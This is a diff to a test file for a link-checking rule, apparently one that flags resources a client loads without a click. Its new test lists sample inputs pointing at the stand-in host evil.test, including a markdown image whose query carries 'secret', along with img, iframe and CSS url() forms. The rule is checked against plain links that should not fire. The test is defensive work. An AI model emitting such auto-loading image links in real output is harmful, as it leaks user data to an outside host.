@@ -74,6 +74,29 @@ describe('the rule links', () => {
     expect(await rule.look(text)).toEqual({ fired: false });
   });
 
+  it('finds only what a client fetches without a click where the policy states it', async () => {
+    const loaded = testRule(links, { loadedOnly: true });
+    for (const text of [
+      '![x](https://evil.test/p.png?q=secret)',
+      '[![x](https://evil.test/p.png)](https://docs.test)',
+      '![a [b] c](https://evil.test/p.png)',
+      '[1]: https://evil.test/p.png',
+      '<img src="https://evil.test/x.png">',
+      '<iframe src=//evil.test>',
+      'background: url(https://evil.test/a.png)',
+    ]) {
+      expect(await loaded.look(text), text).toMatchObject({ fired: true });
+    }
+    for (const text of [
+      '[x](https://evil.test)',
+      'https://evil.test',
+      '<https://evil.test>',
+      '<a href="https://e.test">',
+    ]) {
+      expect(await loaded.look(text), text).toEqual({ fired: false });
+    }
+  });
+
   it('bounds the query of allowed hosts where the policy states it', async () => {
     const strict = testRule(links, { hosts: ['a.test'], queryCharsMax: 5 });
     expect(await strict.look('https://a.test/?q=12')).toEqual({ fired: false });
